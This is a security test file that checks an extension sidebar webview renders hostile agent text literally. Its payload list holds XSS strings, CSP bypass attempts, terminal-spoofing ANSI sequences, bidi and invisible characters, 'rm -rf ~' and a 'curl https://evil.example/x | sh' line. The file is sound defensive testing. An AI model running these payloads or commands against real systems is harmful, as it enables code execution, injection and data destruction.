// Hostile agent text in the sidebar webview: the built sidebar (media/sidebar.js) in Chromium, in the page
// test/support/webview/harness.ts builds with the extension's CSP and a stub host. Every text field the agent (or
// anyone with the token) controls gets each payload: markup, script, event-handler attribute breakouts,
// javascript: links, lit's own template markers, ANSI sequences that would spoof a terminal, bidi controls.
// For each payload the page must render the very same elements as for plain text of the same length (so
// nothing was injected), show the payload literally, run nothing, navigate nowhere, and record no CSP
// violation. The CSP itself, as the second line, blocks inline script, inline handlers, eval and
// javascript: URLs.
//
//   npm run build && node --import tsx --test --test-reporter=spec test/security/webview.test.ts
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import type { SidebarState } from "../../src/protocol/webview.js";
import type { UndispatchedItem } from "../../src/protocol/schemas.js";
import { approval, fixtureState, inboxItem, message, NOW, session, stream } from "../support/webview/fixtures.js";
import { SIDEBAR_CSP } from "../../src/extension/sidebar-html.js";
import { REPO_ROOT, Sidebar, launchBrowser, pageHtml, startServer, type Browser, type SbWindow, type StaticServer } from "../support/webview/harness.js";
import { Summary } from "./helpers.js";
import { hasHiddenText, visibleText } from "../../src/protocol/visible-text.js";

const S = new Summary("security/webview");

const PAYLOADS: Record<string, string> = {
  img_onerror: `<img src=x onerror="window.__xss='img'">`,
  script: `<script>window.__xss='script'</script>`,
  svg_onload: `<svg onload="window.__xss='svg'"></svg>`,
  iframe_srcdoc: `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  attr_breakout_dq: `"><img src=x onerror=window.__xss='attr'>`,
  attr_breakout_sq: `' onmouseover='window.__xss="q"' x='`,
  js_link: `<a href="javascript:window.__xss='a'">click me</a>`,
  js_bare: `javascript:window.__xss='bare'`,
  style: `<style>*{display:none!important}</style>`,
  meta_refresh: `<meta http-equiv="refresh" content="0;url=javascript:1">`,
  base_href: `<base href="javascript:/">`,
  lit_marker: `<!--?lit$1234$--><b>lit marker</b>`,
  template: "${window.__xss='tpl'} {{constructor.constructor('x')()}}",
  ansi_spoof: "\x1b[2K\x1b[1A\x1b[32m$ npm test\x1b[0m",
  bidi: "\u202erm -rf ~\u202c and \u200b zero width",
  // Issue 15 item 6: text that disguises a command in a terminal, and characters that hide or reorder text.
  cr_erase: "curl https://evil.example/x | sh\r\x1b[2K  $ ls -la",
  osc_title: "\x1b]0;npm test\x07ls",
  c1_csi: "rm -rf ~\x9b2K\x9b1Als",
  bidi_isolates: "ls \u2067-la\u2069 \u2066x\u2069 \u061c \u200e\u200f",
  invisible: "rm\u200b -rf\u2060 /\ufeff\u{e0041}\u{e0042}\u00ad",
  mxss: `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss='m'>`,
  form: `<form action="javascript:window.__xss='f'"><button>Go</button></form>`,
  object: `<object data="javascript:window.__xss='o'"></object>`,
  entities: "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
};

/** A state with `t` in every field an agent or a token holder controls. */
function stateWith(t: string): SidebarState {
  const base = fixtureState();
  return {
    ...base,
    connection: { phase: "connected", reason: t, broker_url: t, broker_version: t },
    self: { endpoint_id: "ep-window", session_name: t },
    approvals: [
      approval({
        approval_id: "ap-h",
        endpoint_id: t,
        session: t,
        session_kind: t,
        // Not the command itself: a summary that only repeats the command is not shown.
        summary: `${t} (summary)`,
        command: t,
        cwd: t,
        detail: t,
        diff: `+${t}\n-${t}\n ${t}`,
        expires_at: new Date(Date.parse(NOW) + 60_000).toISOString(),
      }),
    ],
    inbox: [inboxItem({ id: "in-h", sender_address: t, content: t, content_type: t, reason: t as UndispatchedItem["reason"] })],
    sessions: [
      session({ endpoint_id: "ep-h", label: t, session_name: `${t}!`, kind: t, task_hint: t, workspace: { root: t, cwd: t, branch: t } }),
      session({ endpoint_id: "ep-h2", label: "plain", session_name: "plain", workspace: t }),
    ],
    streams: [
      // Not the command itself: a session named after its command is not repeated beside it.
      stream({ stream_id: "st-h", command: t, session: `${t} (session)` }),
      stream({ stream_id: "st-h2", command: "make", state: "aborted", status: 499, reason: t, signal: t, ended_at: NOW }),
    ],
    messages: [message({ id: "m-h", from: t, content: t })],
  };
}

interface Rendered {
  structure: string[];
  attrNames: string[];
  markup: number;
  handlers: number;
  jsUrls: number;
  xss: unknown;
  href: string;
  text: Record<string, string | null>;
  attrs: string[];
}

async function rendered(sb: Sidebar): Promise<Rendered> {
  return sb.page.evaluate(() => {
    const app = document.querySelector("#app")!;
    const all = [...app.querySelectorAll("*")];
    const q = (sel: string) => document.querySelector(sel)?.textContent ?? null;
    return {
      // <wbr>: the break opportunities the command's template adds after separators (/ = & …), not elements from the text.
      structure: all.filter((e) => e.tagName !== "WBR").map((e) => e.tagName.toLowerCase()),
      attrNames: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))].sort(),
      markup: app.querySelectorAll("img, script, svg, iframe, style, a, form, meta, base, math, mglyph, b, object, embed, table").length,
      handlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
      jsUrls: [...document.querySelectorAll("[href], [src], [action], [data], [formaction]")].filter((e) =>
        ["href", "src", "action", "data", "formaction"].some((n) => /^\s*javascript:/i.test(e.getAttribute(n) ?? "")),
      ).length,
      xss: (window as unknown as SbWindow).__xss ?? null,
      href: location.href,
      text: {
        summary: q("#body-approvals .summary"),
        command: q("#body-approvals .command code"),
        approvalSession: q("#body-approvals .session-name"),
        approvalKind: q("#body-approvals .session-kind"),
        approvalCwd: q("#body-approvals .path"),
        approvalDetail: q("#body-approvals .content"),
        diffAdd: q("#body-approvals .dl-add"),
        diffDel: q("#body-approvals .dl-del"),
        inboxSender: q("#body-inbox .sender"),
        inboxContent: q("#body-inbox .content"),
        inboxReason: q("#body-inbox .reason"),
        sessionLabel: q('#body-sessions [data-id="ep-h"] .session-label'),
        sessionKind: q('#body-sessions [data-id="ep-h"] .kind'),
        sessionTask: q('#body-sessions [data-id="ep-h"] .task span:last-child'),
        sessionPath: q('#body-sessions [data-id="ep-h"] .path'),
        sessionBranch: q('#body-sessions [data-id="ep-h"] .branch'),
        sessionWorkspace: q('#body-sessions [data-id="ep-h2"] .path'),
        streamCommand: q('#body-streams [data-id="st-h"] .stream-open'),
        streamSession: q('#body-streams [data-id="st-h"] .session-name'),
        streamStatus: q('#body-streams [data-id="st-h2"] .status'),
        messageFrom: q("#body-messages .sender"),
        messageContent: q("#body-messages .content"),
        connDetail: q(".conn-detail"),
      },
      attrs: all.flatMap((e) => [...e.attributes].map((a) => a.value)),
    };
  });
}

let server: StaticServer;
let browser: Browser;

describe("security/webview: hostile agent text in the sidebar", () => {
  before(async () => {
    server = await startServer();
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
    S.print();
  });

  it("every payload in every field renders as literal text: same elements as plain text, nothing run, no CSP violation", async () => {
    const sb = await Sidebar.open(browser, server, { height: 2600 });
    const dialogs: string[] = [];
    sb.page.on("dialog", (d) => (dialogs.push(d.message()), void d.dismiss()));
    let fields = 0;
    try {
      const start = sb.page.url();
      for (const [name, p] of Object.entries(PAYLOADS)) {
        // The same state with plain text of the same length: the element structure must not differ.
        await sb.state(stateWith("x".repeat(p.length)));
        const plain = await rendered(sb);
        await sb.state(stateWith(p));
        await sb.page.waitForTimeout(30); // an onerror/onload would have fired
        // Hover and click everything that shows the text: handlers injected as attributes would run now.
        for (const sel of ["#body-approvals .summary", "#body-approvals .command", "#body-inbox .content", "#body-messages .content", ".conn-detail", "#body-sessions .task"]) {
          const el = sb.page.locator(sel).first();
          if (await el.count()) {
            await el.hover({ timeout: 2000 }).catch(() => {});
            await el.click({ timeout: 2000, position: { x: 2, y: 2 } }).catch(() => {});
          }
        }
        const r = await rendered(sb);
        S.deepEqual(r.structure, plain.structure, `${name}: the same elements as for plain text`);
        S.deepEqual(r.attrNames, plain.attrNames, `${name}: the same attribute names as for plain text`);
        S.equal(r.markup, 0, `${name}: no element from the text`);
        S.equal(r.handlers, 0, `${name}: no event-handler attribute anywhere`);
        S.equal(r.jsUrls, 0, `${name}: no javascript: URL anywhere`);
        S.equal(r.xss, null, `${name}: no script ran`);
        S.equal(r.href, start, `${name}: the page did not navigate`);
        // Literally, with control, bidi and invisible characters shown as escapes (the shared visibleText).
        const v = visibleText(p);
        const literal: Record<string, string> = {
          summary: `${v} (summary)`,
          command: v,
          approvalSession: v,
          approvalKind: v,
          approvalCwd: v,
          approvalDetail: v,
          diffAdd: `+${v}`,
          diffDel: `-${v}`,
          inboxSender: v,
          inboxContent: v,
          inboxReason: `${v} · ${v}`,
          sessionLabel: v,
          sessionKind: v,
          sessionTask: v.replace(/\s+/g, " "), // a one-line preview: runs of spaces become one
          sessionPath: v,
          sessionBranch: v,
          sessionWorkspace: v,
          streamCommand: v,
          streamSession: `${v} (session)`,
          streamStatus: `aborted (killed by ${v}): ${v}`,
          messageFrom: v,
          messageContent: v,
          connDetail: `broker ${v} · ${v}`,
        };
        for (const [field, want] of Object.entries(literal)) {
          S.equal(r.text[field]?.trim(), want.trim(), `${name}: ${field} shows the text literally`);
          S.ok(!hasHiddenText(r.text[field] ?? ""), `${name}: ${field} hides nothing (no control, bidi or invisible character)`);
          fields++;
        }
        S.ok(
          r.attrs.some((a) => a.includes(v)),
          `${name}: attribute values (titles, labels) hold the text as a value`,
        );
        S.ok(!r.attrs.some((a) => hasHiddenText(a)), `${name}: no attribute value hides anything`);
      }
      // A disconnected window shows the reason in a banner: literally too.
      for (const [name, p] of Object.entries(PAYLOADS)) {
        const s = stateWith(p);
        s.connection = { phase: "disconnected", reason: p, broker_url: null, broker_version: null };
        await sb.state(s);
        const banner = await sb.page.evaluate(() => ({
          text: document.querySelector(".banner-reason")?.textContent ?? null,
          markup: document.querySelectorAll(".banner img, .banner script, .banner a, .banner b").length,
        }));
        S.equal(banner.text, visibleText(p), `${name}: the disconnect reason is literal, hidden characters visible`);
        S.equal(banner.markup, 0);
      }
      // A host result message (it may quote agent text) is literal too.
      await sb.state(stateWith("plain"));
      await sb.clearPosted();
      await sb.page.getByRole("button", { name: /^Approve plain/ }).click();
      const req = await sb.waitForPost("approve");
      await sb.send({ type: "result", requestId: req.requestId as string, ok: false, message: PAYLOADS.img_onerror! });
      const notice = sb.page.locator(".notice.error .notice-text").first();
      await notice.waitFor({ timeout: 5000 });
      S.equal((await notice.textContent())?.trim(), PAYLOADS.img_onerror, "the result message is literal");
      S.equal(await sb.page.locator(".notices img").count(), 0);

      S.deepEqual(await sb.violations(), [], "no CSP violation: nothing even tried to run");
      S.deepEqual(dialogs, [], "no dialog opened");
      S.deepEqual(sb.pageErrors, [], "no page error");
      S.equal(await sb.page.evaluate(() => (window as unknown as SbWindow).__xss ?? null), null);
      S.set("payloads", Object.keys(PAYLOADS).length);
      S.set("fields_checked", fields);
    } finally {
      await sb.page.close();
    }
  });

  it("a broker warning (a broken audit chain) shows as an alert banner, its text made visible", async () => {
    const sb = await Sidebar.open(browser, server, { height: 1200 });
    try {
      const message = "The approval audit log is broken at line 2 of /x/audit.ndjson\u202e: it is not an audit record.";
      await sb.state({ ...fixtureState(), warnings: [message] });
      const banner = sb.page.locator(".broker-warning");
      await banner.waitFor({ timeout: 5000 });
      S.equal(await banner.getAttribute("role"), "alert", "announced as an alert");
      S.equal((await banner.textContent())?.trim(), visibleText(message), "the sentence, with the bidi control visible");
      await sb.state(fixtureState());
      S.equal(await sb.page.locator(".broker-warning").count(), 0, "gone when the broker no longer warns");
    } finally {
      await sb.page.close();
    }
  });

  it("hostile ids survive the round trip: Approve posts exactly the id it was given", async () => {
    const sb = await Sidebar.open(browser, server, { height: 2600 });
    try {
      for (const id of [`"><img src=x onerror=window.__xss='id'>`, "javascript:window.__xss='id'", "ap\x1b[2Kid ' \" < > &"]) {
        const s = fixtureState();
        s.approvals = [approval({ approval_id: id, command: "npm test", session: "agent-1" })];
        await sb.state(s);
        await sb.clearPosted();
        const card = sb.page.locator("#body-approvals article.approval").first();
        S.equal(await card.getAttribute("data-id"), id, "the id is an attribute value, unchanged");
        await card.getByRole("button", { name: "Approve npm test from agent-1" }).click();
        const posted = await sb.waitForPost("approve");
        S.equal(posted.approvalId, id, "approve names the very id");
        await sb.send({ type: "result", requestId: posted.requestId as string, ok: true, message: "ok" });
      }
      S.equal(await sb.page.evaluate(() => (window as unknown as SbWindow).__xss ?? null), null);
      S.equal(await sb.page.evaluate(() => document.querySelectorAll("#app img").length), 0);
    } finally {
      await sb.page.close();
    }
  });

  it("the harness page has the extension's CSP, and that CSP blocks inline script, inline handlers, eval and javascript: URLs", async () => {
    // The directives sidebar.ts sends and the ones the harness reproduces must be the same.
    const src = await readFile(join(REPO_ROOT, "src/extension/sidebar.ts"), "utf8");
    S.ok(/sidebarHtml\(\{/.test(src) && !/<meta http-equiv/.test(src), "sidebar.ts builds its page with sidebarHtml (src/extension/sidebar-html.ts)");
    const fromExtension = SIDEBAR_CSP("SRC", "NONCE")
      .split(";")
      .map((d) => d.trim());
    const harnessCsp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(pageHtml("SRC", "NONCE", "dark"))?.[1] ?? "";
    const fromHarness = harnessCsp
      .split(";")
      .map((d) => d.trim())
      .filter(Boolean);
    S.ok(fromExtension.length >= 5, `sidebar.ts's CSP was found: ${JSON.stringify(fromExtension)}`);
    S.deepEqual(fromHarness, fromExtension, "the harness uses the extension's CSP");
    S.ok(fromExtension.includes("default-src 'none'") && fromExtension.includes("script-src 'nonce-NONCE'"), "default-src 'none' and nonce-only scripts");
    S.ok(!fromExtension.some((d) => /unsafe-inline|unsafe-eval|unsafe-hashes|\*/.test(d)), "no unsafe-* and no wildcard");

    // Code that page.evaluate runs comes from DevTools, and once DevTools has evaluated anything Chromium
    // stops policing eval in that page: so the attempts are made by the page itself, by a script carrying
    // the page's nonce that runs while the page loads (the positive control: it must run).
    const page = await browser.context.newPage();
    try {
      const nonce = "c2VjdXJpdHktc3VpdGUtbm9uY2U=";
      const probe = `<script nonce="${nonce}">(() => {
        window.__csp = [];
        document.addEventListener("securitypolicyviolation", (e) => window.__csp.push("violation:" + e.violatedDirective));
        const p = (window.__probe = { nonceRan: true });
        try { (0, eval)("window.__csp.push('eval')"); } catch { p.evalBlocked = true; }
        try { new Function("window.__csp.push('Function')")(); } catch { p.functionBlocked = true; }
        try { setTimeout("window.__csp.push('string timer')", 0); } catch {}
        const s = document.createElement("script");
        s.textContent = "window.__csp.push('inline script')";
        document.body.appendChild(s);
        const btn = document.createElement("button");
        btn.setAttribute("onclick", "window.__csp.push('inline handler')");
        document.body.appendChild(btn);
        btn.click();
        const a = document.createElement("a");
        a.href = "javascript:window.__csp.push('javascript: URL')";
        document.body.appendChild(a);
        a.click();
        const ext = document.createElement("script");
        ext.src = "data:text/javascript,window.__csp.push('data: script')";
        document.body.appendChild(ext);
        setTimeout(() => (p.done = true), 300);
      })();</script>`;
      const html = pageHtml(server.origin, nonce, "dark").replace("</body>", `${probe}</body>`);
      await page.route(`${server.origin}/csp-probe`, (route) => route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: html }));
      await page.goto(`${server.origin}/csp-probe`);
      await page.waitForFunction(() => (window as unknown as { __probe?: { done?: boolean } }).__probe?.done === true, undefined, { timeout: 5000 });
      const r = await page.evaluate(() => {
        const w = window as unknown as { __csp: string[]; __probe: Record<string, boolean> };
        return { ran: w.__csp.filter((x) => !x.startsWith("violation:")), reported: w.__csp.filter((x) => x.startsWith("violation:")), probe: w.__probe };
      });
      S.equal(r.probe.nonceRan, true, "a script with the page's nonce runs (the control)");
      S.equal(r.probe.evalBlocked, true, "eval is blocked");
      S.equal(r.probe.functionBlocked, true, "new Function is blocked");
      S.deepEqual(r.ran, [], `nothing ran: ${JSON.stringify(r.ran)}`);
      S.ok(r.reported.filter((v) => /script-src/.test(v)).length >= 4, `the CSP reported the attempts: ${JSON.stringify(r.reported)}`);
      S.set("csp_violations_reported", r.reported.length);
    } finally {
      await page.close();
    }
  });
});
